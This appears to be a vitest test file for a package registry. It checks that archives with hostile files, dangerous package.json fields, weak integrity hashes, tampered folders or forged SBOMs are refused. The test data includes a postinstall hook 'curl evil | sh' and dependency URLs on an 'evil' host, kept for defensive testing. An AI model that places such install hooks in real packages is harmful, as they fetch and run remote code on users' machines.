/** Packages as archives and as what is in them: P98, P99, P106, P108-P110. */
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { JsonObject, JsonValue } from '@burgeon/kit';
import { describe, expect, it } from 'vitest';
import { readArchive, writeArchive } from '../../packages/burgeon/src/registry/package/archive.ts';
import { hostileArchives } from '../../packages/burgeon/src/registry/package/fixtures/hostile.ts';
import { changed, jsonFile, openHomes, refusalOf } from './package-homes.ts';

const { root, publisher, reader, open, packed, take, probe } = openHomes('packages');

describe('P98: hostile archives', () => {
  it.each(hostileArchives)('$name', async ({ name, make, reason }) => {
    const before = readdirSync(root, { recursive: true }).length;
    probe(
      'P98',
      name,
      await refusalOf(take(reader(), await make())),
      ['what is no archive', '17 MB that are not small'].includes(name) ? 'SOURCE_UNRECOGNISED' : `PACKAGE_INVALID ${reason}`,
    );
    // Beside the file that was pointed at, nothing was written anywhere.
    expect(readdirSync(root, { recursive: true }).length - before).toBe(1);
    expect(await reader().manage('listModules')).toEqual([]);
  });

  it.each([
    ['a file beside the module', 'package/evil.js', 'layout'],
    ['a module of npm in it', 'package/node_modules/x/index.js', 'layout'],
    ['a build script of npm', 'package/binding.gyp', 'layout'],
    ['a file of another folder', 'other/a.js', 'layout'],
    ['bytes that are no text', 'package/module/evil.node', 'text'],
  ])('%s', async (what, path, reason) => {
    const files = await readArchive((await packed()).bytes);
    const bytes = await writeArchive([
      ...files,
      { path, content: path.endsWith('.node') ? Buffer.from([0, 1, 2]) : Buffer.from('x') },
    ]);
    probe('P98', what, await refusalOf(take(reader(), bytes)), `PACKAGE_INVALID ${reason}`);
  });
});

describe('P99: what package.json says', () => {
  it.each([
    ['scripts', { scripts: { postinstall: 'curl evil | sh' } }],
    ['bin', { bin: './evil.js' }],
    ['dependencies', { dependencies: { left: '1.0.0' } }],
    ['a dependency of git', { dependencies: { left: 'git+ssh://evil/left' } }],
    ['a dependency of the web', { optionalDependencies: { left: 'https://evil/left.tgz' } }],
    ['bundled dependencies', { bundledDependencies: ['left'] }],
    ['a main file', { main: './evil.js' }],
    ['exports', { exports: './evil.js' }],
    ['gypfile', { gypfile: true }],
    ['workspaces', { workspaces: ['*'] }],
    ['another name', { name: 'api.other' }],
    ['another version', { version: '9.9.9' }],
  ])('%s', async (what, more) => {
    const bytes = await changed((await packed()).bytes, (files) => {
      files.set('package.json', jsonFile({ ...(JSON.parse(String(files.get('package.json'))) as object), ...more }));
    });
    probe('P99', what, await refusalOf(take(reader(), bytes, { allowUnknown: true })), 'PACKAGE_INVALID package.json');
  });
});

describe('P106', () => {
  it.skip('a registry that answers 500, slowly, with 1 GB, or an older index: there is no remote registry yet', () => {});
});

describe('P108-P110: integrity, folders, bills', () => {
  it('P108: only sha-512 counts', async () => {
    const { bytes, integrity } = await packed('1.0.0');
    const weak = (name: string): string => `${name}-${createHash(name).update(bytes).digest('base64')}`;
    for (const name of ['sha1', 'md5', 'sha256'])
      probe(
        'P108',
        `an integrity of ${name} alone`,
        await refusalOf(take(reader(), bytes, { integrity: weak(name) })),
        'PACKAGE_INVALID integrity',
      );
    const other = `sha512-${createHash('sha512').update('other').digest('base64')}`;
    probe(
      'P108',
      'an integrity that is not its own',
      await refusalOf(take(reader(), bytes, { integrity: other })),
      'PACKAGE_INVALID integrity',
    );
    probe(
      'P108',
      'two integrities, one of them weak',
      await refusalOf(take(reader(), bytes, { integrity: `${weak('sha1')} ${integrity}` })),
      'PACKAGE_INVALID integrity',
    );
  });

  it('P109: from a folder, with the same checks', async () => {
    const offline = await open('offline');
    const { bytes } = await packed('1.0.0');
    const folder = mkdtempSync(join(root, 'unpacked-'));
    for (const { path, content } of await readArchive(bytes)) {
      mkdirSync(join(folder, path, '..'), { recursive: true });
      writeFileSync(join(folder, path), content);
    }
    const what = join(folder, 'package');
    probe(
      'P109',
      'an unpacked package by nobody known',
      await refusalOf(offline.manage('addModule', { what })),
      'PACKAGE_INVALID unknown-publisher',
    );
    await offline.manage('addKey', {
      publicKey: JSON.stringify(await publisher().manage('exportKey')),
      name: 'Pub',
      trust: 'own',
    });
    writeFileSync(join(what, 'module', 'index.ts'), 'export const operations = {};');
    probe(
      'P109',
      'an unpacked package with a file changed',
      await refusalOf(offline.manage('addModule', { what })),
      'SIGNATURE_INVALID file',
    );
    for (const { path, content } of await readArchive(bytes)) writeFileSync(join(folder, path), content);
    expect(await offline.manage('addModule', { what })).toMatchObject({ module: { version: '1.0.0', state: 'active' } });
    probe('P109', 'an unpacked package', 'taken', 'taken');
    await offline.burgeon.close();
  });

  it('P110: a bill of materials with the licence, equal to the content', async () => {
    const { bytes } = await packed('1.0.0');
    let bill: JsonObject = {};
    let files: string[] = [];
    const forged = await changed(bytes, (all) => {
      bill = JSON.parse(String(all.get('sbom.cdx.json'))) as JsonObject;
      files = [...all.keys()].filter((path) => path.startsWith('module/')).map((path) => path.slice('module/'.length));
      all.set('sbom.cdx.json', jsonFile({ ...bill, components: (bill['components'] as JsonValue[]).slice(1) }));
    });
    expect(bill).toMatchObject({ bomFormat: 'CycloneDX', metadata: { component: { licenses: [{ license: { name: 'MIT' } }] } } });
    expect((bill['components'] as JsonObject[]).map(({ name }) => name)).toEqual(files);
    probe('P110', 'a bill that leaves a file out', await refusalOf(take(reader(), forged)), 'PACKAGE_INVALID sbom');
  });
});
